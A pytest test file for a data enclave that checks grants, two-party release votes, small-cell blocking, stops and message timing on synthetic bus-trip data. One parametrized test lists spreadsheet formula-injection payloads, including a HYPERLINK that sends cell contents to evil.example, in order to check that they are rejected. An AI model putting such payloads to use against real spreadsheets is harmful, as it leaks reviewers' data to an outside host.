"""From a file handed in to a released table: every step of the data domain, with nothing played but the office."""

from __future__ import annotations

import csv
import dataclasses
import io
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings

from gongshu.crypto.sign import PrivateKey
from gongshu.enclave import acting, confirm, outgoing, release, render, serve, stops, tasks, votes
from gongshu.enclave.store.models import Grant, JournalEntry, Outgoing, Output, Release, Task
from gongshu.wire import serving
from gongshu.wire.envelope import parse, verify
from gongshu.wire.errors import WireError
from gongshu.wire.times import instant
from support.domainworld import AUTHORITY, BUS, ZONE, Domain

SQL = "SELECT line, date_trunc('month', boarded) AS month, count(*) AS trips FROM trips GROUP BY ALL"


@pytest.fixture
def trips(tmp_path: Path) -> Path:
    rng = random.Random(7)
    path = tmp_path / "trips.csv"
    with path.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["card", "line", "boarded", "fare"])
        for _ in range(6000):
            at = datetime(2026, 1, 1) + timedelta(minutes=rng.randrange(80_000))
            line = rng.choice(["1路", "2路", "3路"])
            writer.writerow([f"HS{rng.randrange(2000):08d}", line, at.isoformat(sep=" "), rng.choice([1, 2])])
    return path


def public_line(decision):
    """The provider grades: the card names a person, the rest does not."""
    grades = {"card": "L4", "line": "L1", "boarded": "L2", "fare": "L2"}
    fields = tuple(
        dataclasses.replace(field, grade=grades[field.name], reason="线路和时间不指向个人")
        for field in decision.fields
    )
    return dataclasses.replace(decision, fields=fields, subject="card")


@pytest.fixture
def granted(domain: Domain, trips: Path) -> Domain:
    made = domain.hand_in(trips, "res-1", "trips", public_line)
    assert made.state == "confirmed", made.sentence
    domain.feed("grant", domain.grant("res-1", "trips"))
    grant = Grant.objects.get(id="g-1")
    assert grant.state == "awaiting", grant.sentence
    confirm.answer(grant, organisation=BUS, person="p-bus", agreed=True, reason="", now=domain.now)
    return domain


def work() -> None:
    """What the enclave's computing thread does until nothing waits."""
    while (task := tasks.begin(datetime.now(UTC))) is not None:
        if task.state == "running":
            {"run": tasks.run, "release": release.request}[task.kind](task, datetime.now(UTC))


def run(domain: Domain, sql: str = SQL, task: str = "t-1") -> Task:
    domain.feed("task", {"id": task, "kind": "run", "grant": "g-1", "sql": sql})
    work()
    return Task.objects.get(id=task)


def ask(domain: Domain, task: str = "t-2", kind: str = "table", of: str = "t-1") -> Output:
    output = {"kind": kind, "title": "分线路月客流", "lead": "合成数据。"}
    body = {
        "id": task,
        "kind": "release",
        "grant": "g-1",
        "from_task": of,
        "output": output,
        "product": "pd-1",
    }
    domain.feed("task", body)
    work()
    assert Task.objects.get(id=task).outcome == "done", Task.objects.get(id=task).detail
    return Output.objects.get(task_id=of)


def vote_both(output: Output, now: datetime, second: bool = True) -> None:
    votes.cast(output, person="p-auth", organisation=AUTHORITY, agreed=True, reason="", now=now)
    votes.cast(output, person="p-bus2", organisation=BUS, agreed=second, reason="不宜公开", now=now)


def said_to_office() -> str:
    return str(list(Outgoing.objects.values_list("envelope", flat=True)))


@pytest.mark.row("I17", "L06")
def test_a_product_leaves_only_by_two_votes_over_its_bytes(granted: Domain) -> None:
    assert run(granted).outcome == "done"
    output = ask(granted)
    assert output.state == "reviewing", output.findings
    assert output.digest not in said_to_office()
    assert not release.step(granted.now)
    vote_both(output, granted.now)
    assert release.step(granted.now) == 1
    output.refresh_from_db()
    made = Release.objects.get(output=output)
    data = Path(made.path).read_bytes()
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {row["line"] for row in rows} == {"1路", "2路", "3路"}
    assert sum(int(row["trips"]) for row in rows) == 6000
    sent = Outgoing.objects.get(kind="release").envelope["body"]
    assert sent["digest"] == output.digest and len(sent["votes"]) == 2
    assert sent["record"]["thresholds"]["threshold"] >= 10
    folder = settings.SERVING_DIR / ZONE / "products" / "pd-1" / made.id
    assert (folder / "manifest.json").exists()


def test_a_report_leaves_as_the_document_that_was_reviewed(granted: Domain) -> None:
    run(granted)
    output = ask(granted, kind="report")
    assert Path(output.path).suffix == ".md"
    vote_both(output, granted.now)
    assert release.step(granted.now) == 1
    assert "# 分线路月客流" in Path(Release.objects.get().path).read_text()


def test_one_refusal_keeps_it_inside(granted: Domain) -> None:
    run(granted)
    output = ask(granted)
    vote_both(output, granted.now, second=False)
    assert release.step(granted.now) == 0
    output.refresh_from_db()
    assert output.state == "refused"
    assert not Release.objects.exists()


def test_changed_bytes_do_not_leave(granted: Domain) -> None:
    run(granted)
    output = ask(granted)
    vote_both(output, granted.now)
    with Path(output.path).open("ab") as file:
        file.write(b"x\n")
    assert release.step(granted.now) == 0
    assert not Release.objects.exists()


@pytest.mark.parametrize(
    ("person", "organisation"), [("p-dev", "org-operator"), ("p-dev", AUTHORITY), ("p-auth", "org-else")]
)
def test_those_who_may_not_vote_cannot(granted: Domain, person: str, organisation: str) -> None:
    run(granted)
    output = ask(granted)
    with pytest.raises(acting.Forbidden):
        votes.cast(output, person=person, organisation=organisation, agreed=True, reason="", now=granted.now)
    assert votes.may_vote(output, person, organisation), "nor by the grant, whatever the list says"


def test_nobody_votes_twice(granted: Domain) -> None:
    run(granted)
    output = ask(granted)
    votes.cast(output, person="p-auth", organisation=AUTHORITY, agreed=True, reason="", now=granted.now)
    with pytest.raises(votes.VoteError):
        votes.cast(output, person="p-auth", organisation=AUTHORITY, agreed=True, reason="", now=granted.now)


def test_a_small_cell_is_blocked_and_the_office_learns_no_place(granted: Domain) -> None:
    sql = "SELECT line, boarded, count(*) AS trips FROM trips GROUP BY line, boarded"
    assert run(granted, sql).outcome == "done"
    output = ask(granted)
    assert output.state == "blocked"
    verdict = Outgoing.objects.get(kind="verdict").envelope["body"]
    assert set(verdict) == {"task", "output", "verdict", "checks"}
    assert verdict["verdict"] == "block"
    assert output.id in verdict["output"]


@pytest.mark.row("C19", "A16")
def test_raw_rows_are_refused_by_the_lens_before_any_data_is_read(granted: Domain) -> None:
    assert run(granted, "SELECT * FROM trips").outcome == "refused_lens"
    assert not Output.objects.exists()


def test_the_office_hears_only_a_code_at_a_full_ten_seconds(granted: Domain) -> None:
    run(granted)
    sent = Outgoing.objects.get(kind="outcome")
    assert set(sent.envelope["body"]) == {"task", "code"}
    assert sent.not_before.second % 10 == 0 and sent.not_before.microsecond == 0
    assert instant(sent.envelope["issued"], "issued") == sent.not_before


def test_neither_time_nor_number_of_a_message_tells_when_a_run_ended(granted: Domain) -> None:
    """The office can make the enclave speak at any moment: the number between two such messages is a clock."""
    run(granted)
    output = Output.objects.get(task_id="t-1")
    body = {"id": "r-1", "kind": "release", "grant": "g-1", "from_task": "t-1", "product": "pd-1"}
    granted.feed("task", {**body, "output": {"kind": "table", "title": "客流"}})
    work()
    output.refresh_from_db()
    assert output.state in ("reviewing", "blocked")
    held = Outgoing.objects.filter(kind__in=("outcome", "verdict", "review"), sent__isnull=True)
    assert {row.kind for row in held} >= {"outcome", "verdict"}
    moment = min(row.not_before for row in held)
    for row in held:
        assert row.number is None and not row.envelope["signatures"]
        issued = instant(row.envelope["issued"], "issued")
        assert issued == row.not_before and issued.second % 10 == 0 and issued.microsecond == 0
    spoken = outgoing.post("cosign", {"size": 1, "line": "x"}, zone=ZONE, now=moment - timedelta(seconds=1))
    last = max(row.not_before for row in held)
    assert sum(outgoing.number_due(source, last) for source in ("enclave", "airlock")) == held.count()
    assert outgoing.number_due("enclave", last) == 0
    for row in held.all():
        assert row.source == "airlock" or row.number > spoken.number
        made = parse(row.envelope)
        assert made.seq == row.number
        assert {one.role for one in verify(made, granted.trust, last)} == {row.source}


@pytest.mark.row("J08", "J12")
def test_an_unconfirmed_grant_opens_nothing(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    domain.feed("grant", domain.grant("res-1", "trips"))
    assert run(domain).outcome == "refused_grant"


def test_a_refused_grant_opens_nothing(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    domain.feed("grant", domain.grant("res-1", "trips"))
    grant = Grant.objects.get()
    confirm.answer(grant, organisation=BUS, person="p-bus", agreed=False, reason="范围过大", now=domain.now)
    assert run(domain).outcome == "refused_grant"


@pytest.mark.row("J08")
def test_only_the_provider_confirms(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    domain.feed("grant", domain.grant("res-1", "trips"))
    with pytest.raises(confirm.ConfirmError):
        confirm.answer(
            Grant.objects.get(),
            organisation=AUTHORITY,
            person="p-auth2",
            agreed=True,
            reason="",
            now=domain.now,
        )


def test_a_weaker_grade_in_a_grant_is_invalid(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    body = domain.grant("res-1", "trips")
    body["tables"]["trips"]["columns"]["card"]["grade"] = "L1"
    domain.feed("grant", body)
    grant = Grant.objects.get()
    assert grant.state == "invalid"
    assert "等级" in grant.sentence


def test_a_grant_forged_with_another_key_is_not_admitted(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    with pytest.raises(WireError):
        domain.feed("grant", domain.grant("res-1", "trips"), key=PrivateKey.generate("ed25519"))
    assert not Grant.objects.exists()


def test_a_confirmed_grant_is_not_rewritten(granted: Domain) -> None:
    body = granted.grant("res-1", "trips", runs_per_day=5000)
    granted.feed("grant", body)
    assert Grant.objects.get().body["runs_per_day"] == 5


def test_an_expired_grant_opens_nothing(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    domain.feed("grant", domain.grant("res-1", "trips", until="2020-12-31"))
    confirm.answer(
        Grant.objects.get(), organisation=BUS, person="p-bus", agreed=True, reason="", now=domain.now
    )
    assert run(domain).outcome == "refused_grant"


def test_a_project_runs_no_more_than_its_grant_names(granted: Domain) -> None:
    codes = [run(granted, task=f"t-{n}").outcome for n in range(7)]
    assert codes == ["done"] * 5 + ["limit"] * 2


def test_a_stop_at_the_airlock_acts_at_once_and_reaches_the_gateway(granted: Domain) -> None:
    run(granted)
    output = ask(granted)
    vote_both(output, granted.now)
    stops.stop(
        zone=ZONE,
        scope="grant",
        target="g-1",
        reason="演练",
        origin="airlock",
        person="p-bus",
        now=granted.now,
    )
    assert release.step(granted.now) == 0
    assert run(granted, task="t-9").outcome == "refused_stop"
    serve.write_state(ZONE, granted.now)
    admitted, _ = serving.read(settings.SERVING_DIR, ZONE, granted.trust, granted.now, "test")
    assert [stop["target"] for stop in admitted.envelope.body["stops"]] == ["g-1"]


def test_a_stopped_product_leaves_neither_under_old_votes_nor_by_a_new_request(granted: Domain) -> None:
    def stop() -> None:
        stops.stop(
            zone=ZONE,
            scope="product",
            target="pd-1",
            reason="演练",
            origin="airlock",
            person="p-bus",
            now=granted.now,
        )

    run(granted)
    output = ask(granted)
    vote_both(output, granted.now)
    stop()
    # what a request under attack writes back when it ends after the stop
    Output.objects.filter(pk=output.pk).update(state="reviewing")
    assert release.step(granted.now) == 0 and not Release.objects.exists()
    run(granted, task="t-3")
    body = {"kind": "table", "title": "再来一次", "lead": ""}
    asked = {"id": "t-4", "kind": "release", "grant": "g-1", "from_task": "t-3", "output": body}
    granted.feed("task", {**asked, "product": "pd-1"})
    work()
    assert Task.objects.get(id="t-4").outcome == "refused_stop"


def test_a_stop_at_the_airlock_ends_a_run_on_its_way(
    granted: Domain, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The airlock is another process: the enclave finds the stop in the database."""
    granted.feed("task", {"id": "t-1", "kind": "run", "grant": "g-1", "sql": SQL})
    task = tasks.begin(datetime.now(UTC))
    assert task is not None
    ended: list[str] = []

    class Engine:
        def cancel(self, run_id: str) -> None:
            ended.append(run_id)

    monkeypatch.setitem(tasks.RUNNING, task.id, (Engine(), "r-1"))
    assert tasks.halt(granted.now) == 0 and not ended
    stops.stop(
        zone=ZONE, scope="grant", target="g-1", reason="", origin="airlock", person="p-bus", now=granted.now
    )
    assert tasks.halt(granted.now) == 1 and ended == ["r-1"]


@pytest.mark.parametrize(
    "sql",
    [
        """SELECT line AS "=WEBSERVICE(A2)", count(*) AS n FROM trips GROUP BY line""",
        """SELECT line, count(*) AS n, '=HYPERLINK("http://evil.example/?x="&B2)' AS note
           FROM trips GROUP BY line""",
        """SELECT line, count(*) AS n, '@SUM(B2)' AS note FROM trips GROUP BY line""",
    ],
)
def test_no_formula_reaches_a_reviewers_spreadsheet(granted: Domain, sql: str) -> None:
    assert run(granted, sql=sql).outcome == "done"
    body = {"kind": "table", "title": "公式", "lead": ""}
    asked = {"id": "t-2", "kind": "release", "grant": "g-1", "from_task": "t-1", "output": body}
    granted.feed("task", {**asked, "product": "pd-1"})
    work()
    task = Task.objects.get(id="t-2")
    assert task.outcome == "failed" and "公式" in task.detail
    assert Output.objects.get(task_id="t-1").state == "kept"


def test_what_only_looks_like_a_formula_leaves() -> None:
    told = render.as_csv(["增减", "比例-%"], [["-", "-3.5"], ["+12", "-1e-05"], [-4, "5-6岁"]])
    assert told.decode("utf-8-sig").splitlines()[1] == "-,-3.5"


def test_a_column_of_midnights_shows_days_and_any_other_keeps_its_hours() -> None:
    months = [datetime(2025, 12, 1), datetime(2026, 1, 1)]
    rows = [[months[0], months[0], "甲"], [None, datetime(2026, 1, 1, 8, 30), "乙"]]
    told = render.as_report("月报", "", ["月", "时", "线"], rows).decode()
    assert "| 2025-12-01 | 2025-12-01 00:00:00 | 甲 |" in told
    assert "|  | 2026-01-01 08:30:00 | 乙 |" in told
    assert render.as_csv(["月"], [[each] for each in months]).decode("utf-8-sig").splitlines()[1:] == [
        "2025-12-01",
        "2026-01-01",
    ]
    assert render.as_csv(["月"], []).decode("utf-8-sig").splitlines() == ["月"]


def test_an_act_leaves_its_line_in_the_journal(granted: Domain) -> None:
    run(granted)
    acts = set(JournalEntry.objects.values_list("fields__act", flat=True))
    assert {"intake.received", "intake.confirmed", "grant.received", "grant.confirmed", "run.done"} <= acts


def test_the_same_file_twice_is_a_new_snapshot_with_its_parent(domain: Domain, trips: Path) -> None:
    first = domain.hand_in(trips, "res-1", "trips", public_line)
    second = domain.hand_in(trips, "res-1", "trips", public_line)
    assert first.snapshot != second.snapshot


def test_another_organisation_cannot_replace_a_resource(domain: Domain, trips: Path) -> None:
    domain.hand_in(trips, "res-1", "trips", public_line)
    with pytest.raises(Exception, match="别的单位"):
        domain.hand_in(trips, "res-1", "trips", public_line, organisation=AUTHORITY)


def test_the_office_hears_nothing_before_the_provider_confirms(domain: Domain, trips: Path) -> None:
    from gongshu.enclave import handin

    settings.INTAKE_DIR.mkdir(parents=True, exist_ok=True)
    copy = settings.INTAKE_DIR / "x.csv"
    copy.write_bytes(trips.read_bytes())
    made = handin.begin(
        zone=ZONE,
        organisation=BUS,
        person="p-bus",
        resource="res-9",
        title="x",
        table="x",
        filename="x.csv",
        path=copy,
        now=domain.now,
    )
    handin.read(made, domain.now)
    assert not Outgoing.objects.exists()
    lines = str(list(JournalEntry.objects.values_list("fields", flat=True)))
    assert "card" not in lines and "boarded" not in lines
    assert not copy.exists()
